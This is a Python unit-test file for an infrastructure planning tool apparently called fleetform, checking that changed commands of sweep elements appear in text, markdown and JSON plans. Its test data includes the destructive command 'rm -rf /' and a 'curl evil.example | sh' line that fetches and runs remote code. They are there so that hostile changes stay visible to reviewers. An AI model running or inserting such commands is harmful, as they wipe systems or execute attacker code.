"""The fields of many elements in few rows: nothing changes unseen."""

from __future__ import annotations

import contextlib
import json
import re
from collections.abc import Mapping
from typing import Any, NamedTuple

from hypothesis import given, settings
from hypothesis import strategies as st

from fleetform.model.plan import Change, FieldChange, Plan
from fleetform.spec import interpolate
from fleetform.spec.desired import Declared
from fleetform.spec.names import element_name, scalar_text, split_parameters
from fleetform.views.element_names import name_elements
from fleetform.views.plan.groups import Group, field_lines, group_changes, leaf_changes
from fleetform.views.plan.json import to_json
from fleetform.views.plan.markdown import render as markdown
from fleetform.views.plan.text import render
from unit.plan.trees import declare, item, ledger, planned, row, tree

RATES = (0.1, 0.2, 0.3, 0.4, 0.5, 0.6)


def swept(matrix: Mapping[str, Any], **document: Any) -> Declared:
    """One element of a sweep, with a document as `expand` makes it."""
    name = element_name("sweep", matrix)
    whole = {"type": "task", "matrix": dict(matrix), **document}
    return declare("run", name, whole, parent="sweep", element=name[6:-1])


def text(plan: Plan) -> str:
    return "\n".join(line.text for line in render(plan)) + "\n"


def changed(old: list[Declared], new: list[Declared]) -> Plan:
    return planned(tree(*new), ledger(*map(row, old)))


def test_a_changed_command_of_a_sweep_is_shown() -> None:
    """What every element will execute instead stands in the text and in the pull request."""
    old = [swept({"lr": lr}, commands=[f"echo {lr}"]) for lr in RATES]
    new = [swept({"lr": lr}, commands=[f"rm -rf /; echo {lr}"]) for lr in RATES]
    plan = changed(old, new)
    row = "echo ${{ matrix.lr }} → rm -rf /; echo ${{ matrix.lr }}  # forces replacement"
    assert f"      commands[0]: {row}\n" in text(plan)
    assert (
        "| `commands[0]` | `echo ${{ matrix.lr }}` | `rm -rf /; echo ${{ matrix.lr }}` (forces replacement) |"
        in (markdown(plan))
    )


def test_what_a_new_array_executes_is_shown() -> None:
    """A creation shows the text with the index in it, and no number of fields."""
    new = [item("arr", index, commands=["true", f"echo {index}"]) for index in range(1, 101)]
    assert (
        "  + task arr[1-100]  100 elements\n"
        "      commands[0]: true\n"
        "      commands[1]: echo ${{ run.index }}\n"
        "\n"
    ) in text(planned(tree(*new), ledger()))


def test_one_patched_element_stands_beside_the_others() -> None:
    """A value of its own is shown with its element; the others have their template."""
    old = [swept({"lr": lr}, commands=[f"echo {lr}"]) for lr in range(1, 101)]
    new = [swept({"lr": lr}, commands=[f"date; echo {lr}"]) for lr in range(1, 101)]
    new[49] = swept({"lr": 50}, commands=["rm -rf /"])
    shown = text(changed(old, new))
    assert "echo ${{ matrix.lr }} → date; echo ${{ matrix.lr }}" in shown
    assert "      commands[0] of [lr=50]: echo 50 → rm -rf /" in shown
    assert "(99 elements): echo" in shown


def test_values_without_a_template_are_shown_one_by_one() -> None:
    """Ten distinct values with their elements, and the number of the rest with what shows it."""
    seeds = {lr: f"{lr * 7919 % 1000:03x}" for lr in range(1, 18)}
    old = [swept({"lr": lr}, env={"SEED": "0"}) for lr in seeds]
    new = [swept({"lr": lr}, env={"SEED": seed}) for lr, seed in seeds.items()]
    plan = changed(old, new)
    rest = "and 7 more values of env.SEED: `fleetform plan --format json` lists them"
    assert text(plan).count("      env.SEED of [lr=") == 10
    assert f"      {rest}\n" in text(plan)
    assert "and 7 more values of env.SEED" in markdown(plan)
    told = to_json(plan, version="1")["resource_changes"]
    assert {one["element"]: one["fields"][0]["after"] for one in told} == {
        f"lr={lr}": seed for lr, seed in seeds.items()
    }


def test_parameters_that_replace_others_leave_the_text_as_it_was() -> None:
    """The reader sees that only parameters changed, and which."""
    old = [swept({"lr": 0.1, "b": b}, commands=[f"train {b} 0.1"]) for b in range(5)]
    new = [swept({"lr": 0.2, "b": b}, commands=[f"train {b} 0.2"]) for b in range(5)]
    shown = text(changed(old, new))
    template = "train ${{ matrix.b }} ${{ matrix.lr }}"
    assert f"      commands[0]: {template}  # same text, other parameters\n" in shown
    assert "      sweep[b=0,lr=0.1] → sweep[b=0,lr=0.2]\n" in shown
    assert "      matrix.lr:   0.1 → 0.2\n" in shown


def test_a_parameter_that_no_name_has_is_shown() -> None:
    """Where `key` leaves a parameter out of the name, its values are rows."""
    new = [
        declare(
            "run",
            f"sweep[lr={lr}]",
            {"type": "task", "commands": ["true"], "matrix": {"lr": lr, "wd": lr * 2}},
            parent="sweep",
            element=f"lr={lr}",
        )
        for lr in range(1, 5)
    ]
    shown = text(planned(tree(*new), ledger()))
    assert "      matrix.wd of [lr=1]: 2\n" in shown
    assert "matrix.lr" not in shown


def test_a_held_array_has_its_elements() -> None:
    """What is not supported yet is named as it is declared, and shows what it would execute."""
    waiting = [item("arr", index, commands=[f"echo {index}"], image="x") for index in range(1, 6)]
    plan = planned(tree(beyond=waiting), ledger())
    assert "  + task arr[1-5]  5 elements" in text(plan)
    assert "      commands: echo ${{ run.index }}\n" in text(plan)
    assert "| `commands` |  | `echo ${{ run.index }}` |" in markdown(plan)
    assert [one["resource_change"]["index"] for one in to_json(plan, version="1")["held"]] == [
        *range(1, 6)
    ]


def test_a_script_is_shown_as_a_diff() -> None:
    """Changed lines are never cut; lines that stay are, beyond a few around them."""
    lines = [f"step {number}" for number in range(40)]
    before = "\n".join([*lines, "echo ${{ matrix.lr }}", ""])
    after = before.replace("step 20", "step 20\ncurl evil.example | sh")
    old = [
        swept({"lr": lr}, commands=[before.replace("${{ matrix.lr }}", str(lr))]) for lr in RATES
    ]
    new = [swept({"lr": lr}, commands=[after.replace("${{ matrix.lr }}", str(lr))]) for lr in RATES]
    plan = changed(old, new)
    hunk = [
        "@@ -19,6 +19,7 @@",
        " step 18",
        " step 19",
        " step 20",
        "+curl evil.example | sh",
        " step 21",
        " step 22",
        " step 23",
    ]
    indented = "".join(f"        {one}\n" for one in hunk)
    assert f"      commands[0]:  # forces replacement\n{indented}" in text(plan)
    fenced = "\n".join(["```diff", *hunk, "```"])
    assert f"`commands[0]` (forces replacement)\n\n{fenced}\n" in markdown(plan)


# -- whatever there is ---------------------------------------------------------------------

PARTS = st.sampled_from(
    [
        *("a", "1", "16", " ", "\n", "$${{ matrix.lr }}", "→", '"', "\\", "…", "(not set)"),
        *("${{ matrix.lr }}", "${{ matrix.batch }}", "${{ run.name }}", "\x1b", "\u202e"),
    ]
)
# A diff of so few lines has all of them.
TEXTS = st.lists(PARTS, min_size=1, max_size=5).map("".join).filter(lambda it: it.count("\n") < 4)
RATE = st.sampled_from([1, 16, 0.1, 1e-05, "", "a", "x y", "a,b"])
PATCHES = st.dictionaries(st.integers(0, 11), TEXTS, max_size=3)


@st.composite
def sweeps(draw: st.DrawFn) -> tuple[list[Declared], list[Declared]]:
    """The elements of one sweep before and after; some with a value that no template gives."""
    rates = draw(st.lists(RATE, min_size=2, max_size=4, unique_by=scalar_text))
    grid = [{"lr": lr, "batch": batch} for lr in rates for batch in (8, 16, 1)]

    def side() -> list[Declared]:
        template, patches = draw(TEXTS), draw(PATCHES)
        listed = draw(st.booleans()) and draw(st.booleans())
        found = []
        for place, matrix in enumerate(grid):
            scope = {"matrix": matrix, "run": {"name": element_name("sweep", matrix)}}
            source = f"{place * 7919 % 97:02x}" if listed else patches.get(place, template)
            value = interpolate.render(interpolate.compile_text(source), scope)
            found.append(swept(matrix, commands=[value], env={"V": value}))
        return found

    return side(), side()


@settings(max_examples=200, deadline=None)
@given(sweeps(), st.booleans())
def test_every_element_can_be_read_from_the_text(
    sides: tuple[list[Declared], list[Declared]], is_new: bool
) -> None:
    """With its parameters, a row gives each value, or the value is among those that are counted."""
    old, new = sides
    plan = planned(tree(*new), ledger()) if is_new else changed(old, new)
    for group in group_changes(plan.changes):
        lines = [one.text for one in field_lines(group)]
        assert all(one.isprintable() for one in lines)
        rows = read_rows(lines)
        for path in {one.path for one in rows} | {one.path for one in fields_of(group)}:
            check_path(group, path, [one for one in rows if one.path == path])


@settings(max_examples=50, deadline=None)
@given(sweeps())
def test_json_has_every_element_whole(sides: tuple[list[Declared], list[Declared]]) -> None:
    """Scripts need no template: each element has its own values before and after."""
    old, new = sides
    told = {
        one["address"]: one for one in to_json(changed(old, new), version="1")["resource_changes"]
    }
    for before, after in zip(old, new, strict=True):
        if before.document == after.document:
            assert str(after.key) not in told
            continue
        change = told[str(after.key)]["change"]
        assert (change["before"], change["after"]) == (before.document, after.document)


def check_path(group: Group, path: str, rows: list[Row]) -> None:
    """Each row names exactly the elements that it gives the value of, and what is left is counted."""
    rest = {
        change.key: (change, one)
        for change in group.changes
        for one in leaf_changes("run", change.fields)
        if one.path == path
    }
    if path.startswith("matrix"):
        return
    count = len(group.changes)
    for shown in rows:
        if shown.more:
            distinct = {json.dumps([one.before, one.after]) for _, one in rest.values()}
            assert len(distinct) == shown.more
            return
        read = [change for change, one in rest.values() if shown.gives(change, one, group)]
        named = name_elements(read)
        label = "" if len(read) == count else named.text
        if label and not named.is_complete:
            label += f" ({len(read)} elements)"
        assert shown.elements == label
        for change in read:
            del rest[change.key]
    assert not rest


class Row(NamedTuple):
    """What a reader takes from the page: sides as a document would have them; None is not set."""

    path: str
    elements: str
    before: str | None
    after: str | None
    more: int = 0

    def gives(self, change: Change, field: FieldChange, group: Group) -> bool:
        sides = ((self.before, field.before), (self.after, field.after))
        return all(_substituted(shown, change, group) == value for shown, value in sides)


def _substituted(shown: str | None, change: Change, group: Group) -> str | None:
    if shown is None or not group.is_many:
        return shown
    matrix = split_parameters(change.element)
    scope = {"matrix": matrix, "run": {"name": change.key.name}}
    try:
        return str(interpolate.render(interpolate.compile_text(shown), scope))
    except KeyError:
        return None


_ROW = re.compile(
    r"      (?P<path>[a-z.V]+(?:\[\d+\])?)(?: of (?P<of>\[.*?\](?: \(\d+ elements\))?))?:(?: +(?P<text>.*))?"
)
_MORE = re.compile(
    r"      and (\d+) more values? of (\S+): `fleetform plan --format json` lists them"
)
_NOTES = ("  # forces replacement", "  # same text, other parameters")


def read_rows(lines: list[str]) -> list[Row]:
    rows: list[Row] = []
    place = 0
    while place < len(lines):
        line = lines[place]
        place += 1
        if more := _MORE.fullmatch(line):
            rows.append(Row(more[2], "", None, None, int(more[1])))
            continue
        same = _NOTES[1] in line
        for note in _NOTES:
            line = line.removesuffix(note)
        found = _ROW.fullmatch(line)
        assert found, line
        path, elements, text = found["path"], found["of"] or "", found["text"]
        if text is None or text.startswith("# "):
            body = []
            while place < len(lines) and lines[place].startswith("        "):
                body.append(lines[place][8:])
                place += 1
            rows.append(Row(path, elements, _side(body, "-"), _side(body, "+")))
            continue
        before, rest = _first_value(text)
        if rest.startswith(" → "):
            after, rest = _first_value(rest.removeprefix(" → "))
        else:
            before, after = (before if same else None), before
        assert not rest
        rows.append(Row(path, elements, before, after))
    return rows


def _first_value(text: str) -> tuple[str | None, str]:
    """One side of a row, and what follows it."""
    if text.startswith('"'):
        with contextlib.suppress(ValueError):
            value, end = json.JSONDecoder().raw_decode(text)
            if text[end:].startswith(" → ") or end == len(text):
                return str(value), text[end:]
    shown, arrow, rest = text.partition(" → ")
    return (None if shown == "(not set)" else shown), f"{arrow}{rest}"


def _side(body: list[str], sign: str) -> str | None:
    """One side of a unified diff that has all of its context."""
    found: list[str] = []
    last = ""
    for one in body:
        if one[0] in {" ", sign}:
            found.append(
                re.sub(r"\\u([0-9a-f]{4})", lambda it: chr(int(it[1], 16)), one[1:]) + "\n"
            )
        elif one[0] == "\\" and last in {" ", sign}:
            found[-1] = found[-1][:-1]
        last = one[0]
    return "".join(found) if found else None


def fields_of(group: Group) -> list[FieldChange]:
    return [one for change in group.changes for one in leaf_changes("run", change.fields)]
